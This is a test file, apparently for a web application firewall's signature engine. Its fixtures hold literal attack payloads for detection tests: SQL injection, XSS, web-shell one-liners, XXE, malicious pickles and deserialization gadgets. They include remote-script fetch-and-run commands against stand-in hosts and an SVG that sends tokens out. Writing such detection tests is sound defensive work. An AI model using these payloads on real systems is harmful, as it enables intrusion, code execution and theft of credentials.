// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads and rule titles are literal text, not templates
/**
 * The engine around the scanners: where values come from and how they are
 * named (locations), body parsing by content type, the inspection limit,
 * header-structure checks, paranoia levels, thresholds and exclusions.
 */
import { describe, expect, it } from "vitest";
import { inspectWithScanner } from "../../../core/signatures/engine.ts";
import { createSignatureEngine, type SignatureInput, type SignatureOptions } from "../../../core/signatures/index.ts";
import type { ValueScanner } from "../../../core/signatures/scanner.ts";

const engine = createSignatureEngine();
const enc = new TextEncoder();
const PL1: SignatureOptions = { paranoia: 1, threshold: 5 };

function req(over: Partial<SignatureInput> = {}): SignatureInput {
  return { method: "GET", path: "/a", rawPath: "/a", query: [], headers: [["host", "app.example"]], ...over };
}

function body(contentType: string, text: string, truncated = false): SignatureInput["body"] {
  return { bytes: enc.encode(text), contentType, truncated };
}

const where = (input: SignatureInput, opts: SignatureOptions = PL1): string[] =>
  engine.inspect(input, opts).matches.map((m) => `${m.rule}@${m.location}`);

/** Where the rules fire for one PNG upload whose Content-Disposition carries `disposition` after its name. */
const uploadWith = (disposition: string): string[] =>
  where(
    req({
      method: "POST",
      body: body(
        "multipart/form-data; boundary=XB",
        `--XB\r\nContent-Disposition: form-data; name="file"; ${disposition}\r\nContent-Type: image/png\r\n\r\nPNG\r\n--XB--\r\n`,
      ),
    }),
  );

/** Where the rules fire for one file `filename` of type `type` uploaded as the field `file`. */
const upload = (filename: string, type: string, content: string): string[] =>
  where(
    req({
      method: "POST",
      body: body(
        "multipart/form-data; boundary=XB",
        `--XB\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XB--\r\n`,
      ),
    }),
  );

describe("locations", () => {
  it("names query values, query names, cookies, headers and the path", () => {
    const r = engine.inspect(
      req({
        rawPath: "/x/..%2f..%2fetc/passwd",
        query: [
          ["q", "' or 1=1--"],
          ["__proto__[a]", "1"],
        ],
        headers: [
          ["host", "h"],
          ["cookie", "sid=abc; pref=<script>alert(1)</script>"],
          ["user-agent", "sqlmap/1.7"],
          ["x-forwarded-for", "${jndi:ldap://x/a}"],
        ],
      }),
      PL1,
    );
    const locs = new Set(r.matches.map((m) => m.location));
    for (const l of ["path", "query:q", "query-name", "cookie:pref", "header:user-agent", "header:x-forwarded-for"])
      expect(locs, [...locs].join(",")).toContain(l);
    expect(r.block).toBe(true);
  });

  it("reads a form field's overlong UTF-8 (%c0%af) as the character it spells, as the query's", () => {
    const form = body("application/x-www-form-urlencoded", "file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd");
    const found = where(req({ method: "POST", body: form }));
    expect(found, found.join(",")).toContain("930110@body:form.file");
  });

  it("names JSON values and keys by path, form fields, multipart fields, file names and XML elements", () => {
    expect(
      where(req({ method: "POST", body: body("application/json", '{"user":{"name":"x\' or 1=1--"}}') })),
    ).toContain("942100@body:json.user.name");
    expect(where(req({ method: "POST", body: body("application/json", '{"$where":"1"}') }))).toContain(
      "942290@body:json-name.$where",
    );
    expect(
      where(req({ method: "POST", body: body("application/x-www-form-urlencoded", "comment=%3Cscript%3E") })),
    ).toContain("941100@body:form.comment");
    const mp = [
      "--b",
      'Content-Disposition: form-data; name="note"',
      "",
      "1;cat /etc/passwd",
      "--b",
      'Content-Disposition: form-data; name="file"; filename="shell.php"',
      "Content-Type: text/plain",
      "",
      "<?php system($_GET['c']); ?>",
      "--b--",
      "",
    ].join("\r\n");
    const m = where(req({ method: "POST", body: body("multipart/form-data; boundary=b", mp) }));
    expect(m).toContain("932100@body:multipart.note");
    expect(m).toContain("933110@body:multipart.file.filename");
    // File content is data, not a parameter: the PHP inside the upload is not scanned.
    expect(m.some((x) => x.startsWith("933100"))).toBe(false);
    const xml =
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><a p="1 union select 1,2">t</a></r>';
    const x = where(req({ method: "POST", body: body("application/xml", xml) }));
    expect(x).toContain("942130@body:xml.r.a@p");
    expect(x).toContain("941180@body:xml.!doctype");
  });

  it("does not inspect XML element names", () => {
    const xml = '<?xml version="1.0"?><xml><java.lang.Runtime a="b">value</java.lang.Runtime></xml>';
    expect(engine.inspect(req({ method: "POST", body: body("application/xml", xml) }), PL1).block).toBe(false);
  });
});

describe("bodies", () => {
  it("flags a body over the inspection limit and still inspects the part within it", () => {
    const r = engine.inspect(
      req({ method: "POST", body: body("application/x-www-form-urlencoded", `b=' or 1=1--&a=${"x".repeat(200)}`) }),
      { ...PL1, bodyLimit: 60 },
    );
    expect(r.bodyOverLimit).toBe(true);
    expect(r.matches.map((m) => m.rule)).toEqual(expect.arrayContaining(["920170", "942100"]));
    const cut = engine.inspect(req({ method: "POST", body: body("text/plain", "harmless", true) }), PL1);
    expect(cut.bodyOverLimit).toBe(true);
  });

  it("reports a JSON parse error and inspects the text raw", () => {
    const r = engine.inspect(
      req({ method: "POST", body: body("application/json", '{"a": "<script>alert(1)</script>"') }),
      PL1,
    );
    expect(r.parseErrors[0]).toMatch(/^json: /);
    expect(r.matches.map((m) => `${m.rule}@${m.location}`)).toEqual(
      expect.arrayContaining(["920180@body", "941100@body:raw"]),
    );
  });

  it("reads an upload's content when it is markup, a spreadsheet, an image holding a script, or server-side code", () => {
    expect(upload("avatar.jpg", "image/jpeg", "<?php system($_GET['c']); ?>")).toContain(
      "933100@body:multipart.file.content",
    );
    expect(upload("invoice.pdf", "application/pdf", "GIF89a;\r\n<?php eval($_POST['x']); ?>")).toContain(
      "933100@body:multipart.file.content",
    );
    expect(upload("a.svg", "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')).toContain(
      "941160@body:xml.file.content.svg@onload",
    );
    // A GIF/JavaScript polyglot: an SVG handler inside an image.
    expect(upload("sig.gif", "image/gif", "GIF89a/*<svg/onload=alert(1)>*/=alert(document.domain)//;")).toContain(
      "941160@body:multipart.file.content",
    );
    expect(upload("contacts.csv", "text/csv", "name,phone\r\n=cmd|' /C calc'!A0,555")).toContain(
      "932201@body:multipart.file.content",
    );
    // An icon, a photo and a text file: their content is data.
    expect(
      upload("logo.svg", "image/svg+xml", '<svg viewBox="0 0 24 24"><polyline points="20 6 9 17 4 12"/></svg>'),
    ).toEqual([]);
    expect(upload("photo.jpg", "image/jpeg", "\u00ff\u00d8\u00ff\u00e0JFIF binary data 0;DROP")).toEqual([]);
    expect(upload("notes.txt", "text/plain", "run `rm -rf build` then <% rebuild %>")).toEqual([]);
    // A text file's server-side code blocks are read; the prose around them is data.
    expect(
      upload(
        "readme.txt",
        "text/plain",
        'Read me\r\n<% java.lang.Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",request.getParameter("c")}); %>',
      ),
    ).toContain("944100@body:multipart.file.content.code");
    expect(upload("notes", "", "see below <?php system($_GET['c']); ?> end")).toContain(
      "933130@body:multipart.file.content.code",
    );
    // ImageMagick's MVG hands a quoted URL to a delegate's shell command.
    expect(
      upload(
        "pic.jpg",
        "image/jpeg",
        "push graphic-context\r\nviewbox 0 0 640 480\r\nfill 'url(https://example.com/i.jpg\"|curl http://203.0.113.5/x|sh\")'\r\npop graphic-context",
      ),
    ).toContain("932100@body:multipart.file.content.arg");
  });

  it("reads the formats that act when loaded, in uploads and in binary-declared bodies", () => {
    const raw = (type: string, content: string) => where(req({ method: "POST", body: body(type, content) }));
    // An SVG's script is in its handlers and script elements, whatever the code says.
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('/api/tokens').then(r=>r.text()).then(t=>navigator.sendBeacon('//x.example',t))"/>`;
    expect(upload("logo.svg", "image/svg+xml", svg)).toContain("941110@body:xml.file.content.svg@onload");
    expect(raw("image/svg+xml", '<svg><script>fetch("/x")</script></svg>')).toContain("941100@body:xml.svg.script");
    // XML declared binary (a NuGet package's .nuspec) is still XML to the server that unpacks it.
    const xxe = '<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY % d SYSTEM "http://x.example/e.dtd"> %d;]>\n<p/>';
    expect(upload("a.nuspec", "application/octet-stream", xxe)).toContain("941180@body:xml.file.content.!doctype");
    expect(raw("application/octet-stream", xxe)).toContain("941180@body:xml.!doctype");
    // A pickle's imports, in any protocol, raw or uploaded.
    const p4 =
      "\u0080\u0004\u0095\u001d\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u008c\u0005posix\u0094\u008c\u0006system\u0094\u0093\u0094\u008c\u0002id\u0094\u0085\u0094R\u0094.";
    expect(raw("application/vnd.bentoml+pickle", p4)).toContain("934155@body:raw.pickle");
    expect(raw("application/octet-stream", "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.")).toContain(
      "934155@body:raw.pickle",
    );
    expect(upload("model.pkl", "application/octet-stream", p4)).toContain("934155@body:multipart.file.content.pickle");
    // An "image" that is DjVu, whose metadata ExifTool evaluated (CVE-2021-22205), by its magic, not its name.
    const djvu = (meta: string) => `AT&TFORM\u0000\u0000\u0003\u0007DJVMANTa\u0000\u0000\u0001P${meta}\n`;
    expect(
      upload(
        "photo.jpg",
        "image/jpeg",
        djvu('(metadata (Copyright "\\\n" . qx{curl -s http://x.example/g.sh | bash} . \\\n" b ") )'),
      ),
    ).toContain("932100@body:multipart.file.content.metadata");
    expect(upload("book.djvu", "image/vnd.djvu", djvu('(metadata (Author "Ada Lovelace") (Title "Notes"))'))).toEqual(
      [],
    );
    // An imported JSON export's keys (a Kibana saved-objects file), not its values.
    expect(
      upload(
        "export.ndjson",
        "application/ndjson",
        '{"type":"config","id":"8.12.0","attributes":{"\\u005f\\u005fproto\\u005f\\u005f":{"env":{"AAAA":"x"}}}}\n{"type":"index-pattern","id":"logs"}',
      ),
    ).toContain("934130@body:json-name.file.content.attributes.__proto__");
    expect(
      upload(
        "collection.json",
        "application/json",
        JSON.stringify({
          item: [{ event: [{ script: { exec: ["pm.test('ok', () => pm.response.to.have.status(200));"] } }] }],
          query: "SELECT id FROM users WHERE id = 1 UNION SELECT 2",
        }),
      ),
    ).toEqual([]);
    // A YAML file's language tags, not its shell steps.
    expect(
      upload("MLmodel", "application/x-yaml", 'flavors:\n  custom: !!python/object/apply:os.system ["id"]\n'),
    ).toContain("934155@body:multipart.file.content.tag");
    // Honest ones: a model that imports numpy and collections, mkdocs naming a function, a CI file's
    // steps, a Liquibase changelog's handler attributes, an image.
    const model =
      "\u0080\u0004\u0095)\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u008c\u000bcollections\u0094\u008c\u000bOrderedDict\u0094\u0093\u0094)R\u0094\u008c\u0001a\u0094K\u0001s.";
    expect(upload("model.pkl", "application/octet-stream", model)).toEqual([]);
    expect(
      upload(
        "mkdocs.yml",
        "application/x-yaml",
        "markdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n",
      ),
    ).toEqual([]);
    expect(
      upload("pipeline.yml", "application/x-yaml", "test:\n  script:\n    - curl -sSL https://x.example/i.sh | sh\n"),
    ).toEqual([]);
    expect(
      upload(
        "changelog.xml",
        "application/octet-stream",
        '<?xml version="1.0"?><databaseChangeLog><preConditions onFail="MARK_RAN" onError="HALT"/></databaseChangeLog>',
      ),
    ).toEqual([]);
    expect(raw("image/png", "\u0089PNG\r\n\u001a\n binary cposix")).toEqual([]);
  });

  it("reads what file-handling servers act on: archive entries, media converters' instructions, IIS names", () => {
    const raw = (type: string, content: string, headers: Array<[string, string]> = []) =>
      where(req({ method: "POST", headers: [["host", "app.example"], ...headers], body: body(type, content) }));
    // Tar and zip entry names are where an unpacking server writes (zip slip, VMware's uploadova).
    const tarName = "../../../../usr/lib/vmware/h5ngc.war/resources/x41.jsp";
    const tar = `${tarName}${"\u0000".repeat(100 - tarName.length)}0000644\u00000000000\u0000`;
    expect(upload("x41.tar", "text/plain", tar)).toEqual(
      expect.arrayContaining([
        "930110@body:multipart.file.content.entry.filename",
        "944140@body:multipart.file.content.entry.filename",
      ]),
    );
    const zip = (name: string) =>
      `PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000${"\u0000".repeat(16)}${String.fromCharCode(name.length)}\u0000\u0000\u0000${name}data`;
    expect(upload("theme.zip", "application/zip", zip("../../../var/www/html/x.php"))).toContain(
      "933110@body:multipart.file.content.entry.filename",
    );
    expect(upload("photos.zip", "application/zip", zip("Holiday 2024/IMG_0001.jpg"))).toEqual([]);
    // The same archive in Base64 in a JSON or form field (a judge's extra files, a course package).
    const b64 = (name: string) => btoa(`${zip("main.py")}${zip(name)}`);
    const json = (value: string) =>
      where(
        req({
          method: "POST",
          headers: [["host", "app.example"]],
          body: body("application/json", JSON.stringify({ additional_files: value })),
        }),
      );
    expect(json(b64("../../../var/www/html/x.php"))).toContain("930110@body:json.additional_files.entry");
    expect(json(b64("tests/test_main.py"))).toEqual([]);
    expect(
      where(
        req({
          method: "POST",
          headers: [["host", "app.example"]],
          body: body("application/x-www-form-urlencoded", `filecontent=${encodeURIComponent(b64("../../x.php"))}`),
        }),
      ),
    ).toContain("930110@body:form.filecontent.entry");
    // Not Base64 after all, or no archive: nothing read.
    expect(json("UEsDB!!not-base64-at-all-but-long-enough-to-try")).toEqual([]);
    // Media tools' instructions: ImageMagick's PNG profile, Ghostscript's pipe device, ffmpeg's playlist.
    expect(
      upload("a.png", "image/png", "\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\u0013tEXtprofile\u0000/etc/passwd\u001c"),
    ).toContain("930120@body:multipart.file.content.profile");
    expect(
      upload(
        "a.eps",
        "application/postscript",
        "%!PS-Adobe-3.0\nmark /OutputFile (%pipe%id > /tmp/x) currentdevice putdeviceprops\n",
      ),
    ).toEqual(expect.arrayContaining([expect.stringMatching(/^932\d+@body:multipart\.file\.content\.ps$/)]));
    expect(
      upload(
        "clip.avi",
        "video/x-msvideo",
        "#EXTM3U\n#EXTINF:10.0,\nconcat:http://x.example/h.m3u8|file:///etc/passwd\n",
      ),
    ).toContain("931110@body:multipart.file.content.playlist");
    expect(
      upload("live.m3u8", "application/vnd.apple.mpegurl", "#EXTM3U\n#EXTINF:6.0,\nhttps://cdn.example/seg1.ts\n"),
    ).toEqual([]);
    expect(
      upload(
        "print.ps",
        "application/postscript",
        "%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont\nshowpage\n",
      ),
    ).toEqual([]);
    // IIS runs a name up to its `;`, and ASP.NET scripts are server code as JSP is.
    expect(upload("shell.asp;.jpg", "image/jpeg", "x")).toContain("944140@body:multipart.file.filename");
    expect(upload("handler.ashx", "text/plain", "x")).toContain("944140@body:multipart.file.filename");
    // WebDAV's Destination names the file a MOVE or COPY makes.
    expect(
      where(
        req({
          method: "COPY",
          headers: [
            ["host", "a"],
            ["destination", "http://a/dav/shell.php"],
          ],
        }),
      ),
    ).toContain("933110@header:destination");
    expect(
      where(
        req({
          method: "MOVE",
          headers: [
            ["host", "a"],
            ["destination", "http://a/dav/Q3 report (final).docx"],
          ],
        }),
      ),
    ).toEqual([]);
    // A secret's template or documentation is no secret; its backup is.
    expect(where(req({ path: "/blob/main/.env.example", rawPath: "/blob/main/.env.example" }))).toEqual([]);
    expect(where(req({ path: "/repo/docs/web.config.md", rawPath: "/repo/docs/web.config.md" }))).toEqual([]);
    expect(where(req({ path: "/.env.bak", rawPath: "/.env.bak" }))).toContain("930130@path");
    expect(where(req({ path: "/appsettings.json", rawPath: "/appsettings.json" }))).toContain("930130@path");
    // Sizes in headers, Base64 gzip, an archive type, an HTML page sent as bytes, Drive's related upload.
    expect(
      where(
        req({
          headers: [
            ["host", "a"],
            ["x-upload-content-length", "2147483648"],
          ],
        }),
      ),
    ).toEqual([]);
    expect(where(req({ query: [["n", "2147483648"]] }))).toContain("942220@query:n");
    // A type's maximum is also a client's "no limit" (Integer.MAX_VALUE): a probe only at paranoia 2.
    expect(where(req({ query: [["size", "2147483647"]] }))).toEqual([]);
    expect(where(req({ query: [["smv", "4294967295"]] }))).toEqual([]);
    const atPL2 = (value: string) => where(req({ query: [["size", value]] }), { paranoia: 2, threshold: 5 });
    expect(atPL2("2147483647")).toContain("942221@query:size");
    expect(atPL2("-2147483648")).toContain("942220@query:size");
    expect(
      raw("application/json", JSON.stringify({ _attachments: { "a.tgz": { data: "H4sIAAAAAAAAA5T9UR85BrW" } } })),
    ).toEqual([]);
    expect(raw("application/java-archive", "PK\u0003\u0004 META-INF/ /etc/passwd \u0000")).toEqual([]);
    expect(
      raw("application/octet-stream", '<!DOCTYPE html><html><head><link href="../../assets/a.css"></head></html>'),
    ).toEqual([]);
    const related = (json: string) =>
      raw(
        'multipart/related; boundary="b"',
        `--b\r\nContent-Type: application/json; charset=UTF-8\r\n\r\n${json}\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--\r\n`,
      );
    expect(related('{"name": "extrato junho (export).csv", "parents": ["1fTSd"]}')).toEqual([]);
    expect(related('{"name": "<svg onload=alert(1)>.png"}')).toContain("941110@body:json.part1.name");
  });

  it("reads what legacy enterprise stacks deserialize, and leaves their own conventions be", () => {
    const raw = (type: string, content: string) => where(req({ method: "POST", body: body(type, content) }));
    const form = (text: string) => raw("application/x-www-form-urlencoded", text);
    // Java and .NET serialized streams sent whole, or inside WebLogic's T3 framing.
    const java = "\u00ac\u00ed\u0000\u0005sr\u0000.javax.management.BadAttributeValueExpException\u00d4\u00e7";
    expect(raw("application/octet-stream", java)).toContain("944210@body:raw.serialized");
    expect(raw("application/x-java-serialized-object", java)).toContain("944210@body:raw.serialized");
    expect(
      raw("application/octet-stream", `\u0000\u0000\u0005\u00f5\u0001e\u0001\u00ff\u00ff${"p".repeat(40)}${java}`),
    ).toContain("944210@body:raw.serialized");
    const dotnet =
      "\u0000\u0001\u0000\u0000\u0000\u00ff\u00ff\u00ff\u00ff\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u000c\u0002\u0000\u0000\u0000ISystem, Version=4.0.0.0";
    expect(raw("application/octet-stream", dotnet)).toContain("944210@body:raw.serialized");
    expect(raw("application/octet-stream", "\u0089PNG\r\n\u001a\n ordinary image bytes")).toEqual([]);
    // Two high bytes and `00 05` with no stream element after them, and a header without its version:
    // random bytes (a property test's `80 80 00 05 b5…`), not streams.
    expect(raw("application/octet-stream", "\u0080\u0080\u0000\u0005\u00b5\u00a0\u00a1\u008a\u00ad9\u00bf=")).toEqual(
      [],
    );
    expect(
      raw(
        "application/octet-stream",
        "\u0000\u0001\u0000\u0000\u0000\u00ff\u00ff\u00ff\u00ff\u00a0\u0000ISystem, Version=4.0.0.0",
      ),
    ).toEqual([]);
    // .NET BinaryFormatter in Base64 and a ViewState whose root is one.
    expect(form("NavigationCorrector%24ViewState=AAEAAAD%2F%2F%2F%2F%2FAQAAAAAAAAAMAgAAAE")).toContain(
      "944210@body:form.NavigationCorrector$ViewState",
    );
    // Polymorphic JSON naming a gadget class; Json.NET's own type hints are no MongoDB operator.
    const json = (v: unknown) => raw("application/json", JSON.stringify(v));
    expect(json({ d: { __type: "System.Windows.Data.ObjectDataProvider, PresentationFramework" } })).toContain(
      "944120@body:json.d.__type",
    );
    expect(json({ $type: "Contoso.Billing.Models.CreditCardPayment, Contoso.Billing", amount: 120.5 })).toEqual([]);
    expect(json({ password: { $type: "string" } })).toContain("942290@body:json-name.password.$type");
    // JSF: its parameter names are no class references; an unencrypted gzip'd view state is deserialized.
    expect(
      form("javax.faces.partial.ajax=true&javax.faces.source=form%3Atbl&javax.faces.ViewState=8nRbiDTFMUN7hnVf"),
    ).toEqual([]);
    expect(form("javax.faces.ViewState=H4sIAAAAAAAC%2F5VUP0zUUBj")).toContain("944210@body:form.javax.faces.ViewState");
    // ASP.NET's diagnostics handlers and IIS short-name probes are scanner paths (paranoia 2).
    for (const p of ["/trace.axd", "/elmah.axd", "/*~1*/.aspx"]) {
      expect(where(req({ path: p, rawPath: p }), { paranoia: 2, threshold: 5 }), p).toContain("913120@path");
      expect(where(req({ path: p, rawPath: p })), p).toEqual([]);
    }
    // WebLogic's XMLDecoder document in a SOAP header, and Exchange's ProxyShell autodiscover path.
    const soap = `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"><void method="start"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>`;
    expect(raw("text/xml", soap)).toEqual(
      expect.arrayContaining([expect.stringMatching(/^944120@body:xml\..*java\.object@class$/)]),
    );
    expect(
      where(
        req({
          query: [
            ["@evil.corp/mapi/nspi/?", ""],
            ["Email", "autodiscover/autodiscover.json?@evil.corp"],
          ],
        }),
      ),
    ).toContain("934191@query-name");
    expect(raw("text/xml", '<config><java version="17"/><object class="Widget" method="paint"/></config>')).toEqual([]);
    // .NET gadgets built from XML: a DataContract type attribute naming one, and XAML's ObjectDataProvider told
    // what to call; DataContractJsonSerializer's `Name:#Namespace` hint.
    const dcs = `<ArrayOfanyType xmlns="http://schemas.microsoft.com/2003/10/Serialization/Arrays" xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><anyType i:type="a:ObjectDataProvider" xmlns:a="http://schemas.datacontract.org/2004/07/System.Windows.Data"><a:MethodName>Start</a:MethodName></anyType></ArrayOfanyType>`;
    expect(raw("application/xml", dcs)).toEqual(
      expect.arrayContaining([expect.stringMatching(/^944120@body:xml\..*anyType@i:type$/)]),
    );
    const xaml = `<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="a" ObjectType="{x:Type d:Process}" MethodName="Start"/></ResourceDictionary>`;
    expect(raw("application/xaml+xml", xaml)).toEqual(
      expect.arrayContaining([expect.stringMatching(/^944120@body:xml\..*ObjectDataProvider@MethodName$/)]),
    );
    expect(json({ settings: { __type: "ObjectDataProvider:#System.Windows.Data", MethodName: "Start" } })).toContain(
      "944120@body:json.settings.__type",
    );
    // An application's own DataContract types and method names are data.
    expect(
      raw(
        "application/xml",
        '<Order xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><Item i:type="b:Process"/><Step MethodName="Start"/></Order>',
      ),
    ).toEqual([]);
    expect(json({ d: { __type: "OrderLine:#Contoso.Sales" } })).toEqual([]);
    expect(where(req({ query: [["email", "ana@corp.example"]] }))).toEqual([]);
    // WebForms' own event argument: a GridView command, not a shell variable.
    expect(form("__EVENTTARGET=ctl00%24gvPermits&__EVENTARGUMENT=Sort%24ISSUE_DATE")).toEqual([]);
    expect(form("note=Sort%24ISSUE_DATE")).toContain("932150@body:form.note");
    // MIME documents (AS2's multipart/signed) are read part by part, not as one value.
    const as2 =
      "--b\r\nContent-Type: application/EDI-X12; name=po.edi\r\nContent-Transfer-Encoding: binary\r\n\r\nISA*00*~\r\n--b--\r\n";
    expect(raw('multipart/signed; protocol="application/pkcs7-signature"; boundary="b"', as2)).toEqual([]);
  });

  it("scans a GraphQL document's string arguments as values of their own", () => {
    const gql = (query: string) =>
      where(req({ method: "POST", body: body("application/json", JSON.stringify({ query })) }));
    expect(gql(`query { user(id: "1' OR '1'='1") { id email } }`)).toContain("942100@body:json.query.arg");
    // The document sent as the body itself (`application/graphql`) is read the same way.
    const doc = (query: string) => where(req({ method: "POST", body: body("application/graphql", query) }));
    expect(doc(`query { user(username: "admin' OR 1=1-- ") { id } }`)).toContain("942100@body:raw.graphql.arg");
    expect(doc(`query { user(username: "admin'-- ") { id token } }`)).toContain("942110@body:raw.graphql.arg");
    expect(doc(`query { product(slug: "o-brien-s-boots") { id name } }`)).toEqual([]);
    // An escaped quote is a quote to the resolver.
    expect(gql(`query { user(id: "1\\u0027 OR \\u00271\\u0027=\\u00271") { id } }`)).toContain(
      "942100@body:json.query.arg",
    );
    expect(
      where(req({ query: [["query", `query { search(term: "shoes\\" OR 1=1 #", limit: 5) { id } }`]] })),
    ).toContain("942100@query:query.arg");
    // A document printed a field a line, as clients print them, with Apollo's directives: selections,
    // not commands (`@include(if: $withReviews) {` is no shell `if`).
    expect(
      gql(
        "query ProductPage($slug: String!, $withReviews: Boolean = true) {\n  listing(slug: $slug) {\n    id\n    reviews(first: 5) @include(if: $withReviews) {\n      edges {\n        node {\n          id\n        }\n      }\n    }\n  }\n}",
      ),
    ).toEqual([]);
    expect(gql('query {\n  run(cmd: "x; cat /etc/passwd") {\n    id\n  }\n}')).toEqual(
      expect.arrayContaining([expect.stringMatching(/^93\d+@body:json\.query\.arg$/)]),
    );
    // Not a document (no balanced selection): read as any value.
    expect(gql("query\nid\nwhoami")).toEqual(
      expect.arrayContaining([expect.stringMatching(/^932\d+@body:json\.query$/)]),
    );
    // Ordinary arguments: a name with an apostrophe, a search, an enum.
    expect(
      gql(`query Find($n: Int) { people(name: "Siobhán O'Brien", city: "Dublin", first: $n, order: NAME_ASC) { id } }`),
    ).toEqual([]);
  });

  it("scans a parameter sent twice joined by a comma, as ASP.NET reads it", () => {
    const split: Array<[string, string]> = [
      ["q", "1 union/*"],
      ["q", "*/select password from users"],
    ];
    expect(where(req({ query: split }))).toContain("942130@query:q[joined]");
    const form = "q=1+union%2F%2A&q=%2A%2Fselect+password+from+users&limit=10";
    expect(where(req({ method: "POST", body: body("application/x-www-form-urlencoded", form) }))).toContain(
      "942130@body:form.q[joined]",
    );
    expect(
      where(
        req({
          query: [
            ["tag", "red"],
            ["tag", "blue"],
            ["tag", "O'Brien"],
          ],
        }),
      ),
    ).toEqual([]);
  });

  it("reads a multipart file name past its closing quote, where parsers disagree", () => {
    expect(uploadWith('filename=""><img src=x onerror=alert(document.cookie)>.png"')).toContain(
      "941110@body:multipart.file.filename",
    );
    expect(uploadWith(`filename="photo.png"; filename*=UTF-8''photo.png`)).toEqual([]);
  });

  it("reads ORDER BY or GROUP BY alone as a probe at paranoia 2 only", () => {
    const q = (v: string) => req({ query: [["q", v]] });
    expect(where(q("ORder by"))).toEqual([]);
    expect(where(q("group by"), { paranoia: 2, threshold: 5 })).toContain("942232@query:q");
  });

  it("parses an XML document sent in Base64 (a SAML response) and reads a parameter's JWT", () => {
    const form = (v: string) =>
      req({
        method: "POST",
        body: body("application/x-www-form-urlencoded", `SAMLResponse=${encodeURIComponent(v)}&RelayState=%2F`),
      });
    expect(
      where(
        form(
          "PD94bWwgdmVyc2lvbj0iMS4wIj8+PCFET0NUWVBFIHIgWzwhRU5USVRZIHggU1lTVEVNICJmaWxlOi8vL2V0Yy9wYXNzd2QiPl0+PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPjxzYW1sOklzc3Vlcj4meDs8L3NhbWw6SXNzdWVyPjwvc2FtbHA6UmVzcG9uc2U+",
        ),
      ),
    ).toContain("941180@body:form.SAMLResponse.xml.!doctype");
    // Wrapped at 76 characters, as senders do.
    expect(
      where(
        form(
          "PD94bWwgdmVyc2lvbj0iMS4wIj8+PCFET0NUWVBFIHIgWzwhRU5USVRZIHggU1lTVEVNICJmaWxlOi8vL2V0Yy9wYXNzd2QiPl0+PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPjxzYW1sOklzc3Vlcj4meDs8L3NhbWw6SXNzdWVyPjwvc2FtbHA6UmVzcG9uc2U+".replace(
            /(.{76})/g,
            "$1\r\n",
          ),
        ),
      ),
    ).toContain("941180@body:form.SAMLResponse.xml.!doctype");
    expect(
      where(
        form(
          "PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiIElEPSJfYTEiIFZlcnNpb249IjIuMCI+PHNhbWw6SXNzdWVyPmh0dHBzOi8vaWRwLmV4YW1wbGUuY29tPC9zYW1sOklzc3Vlcj48c2FtbDpOYW1lSUQ+YW5hQGV4YW1wbGUuY29tPC9zYW1sOk5hbWVJRD48L3NhbWxwOlJlc3BvbnNlPg==",
        ),
      ),
    ).toEqual([]);
    const request =
      "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJpc3MiOiJwYXJ0bmVyLWFwcCIsImxvZ2luX2hpbnQiOiIke2puZGk6bGRhcDovLzIwMy4wLjExMy45OjEzODkvYX0ifQ.";
    expect(where(req({ query: [["request", request]] }))).toEqual(
      expect.arrayContaining(["920253@query:request", "944150@query:request.jwt.login_hint"]),
    );
    // An ordinary signed ID token as a hint: its claims are names, addresses and URLs.
    expect(
      where(
        req({
          query: [
            [
              "id_token_hint",
              "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImsxIn0.eyJpc3MiOiJodHRwczovL2lkcC5leGFtcGxlLmNvbSIsInN1YiI6IjI0ODI4OTc2MTAwMSIsImVtYWlsIjoiYW5hQGV4YW1wbGUuY29tIiwibmFtZSI6IkFuYSBPJ05laWwifQ.c2ln",
            ],
          ],
        }),
      ),
    ).toEqual([]);
  });

  it("flags an h2c upgrade from a client, not a WebSocket one", () => {
    const h = (headers: Array<[string, string]>) => where(req({ headers: [["host", "app.example"], ...headers] }));
    expect(
      h([
        ["upgrade", "h2c"],
        ["http2-settings", "AAMAAABkAARAAAAAAAIAAAAA"],
      ]),
    ).toEqual(expect.arrayContaining(["920256@header:upgrade", "920256@header:http2-settings"]));
    expect(
      h([
        ["upgrade", "websocket"],
        ["connection", "Upgrade"],
      ]),
    ).toEqual([]);
  });

  it("reads Azure AD's line breaks in an OAuth error_description as text, and still judges the rest", () => {
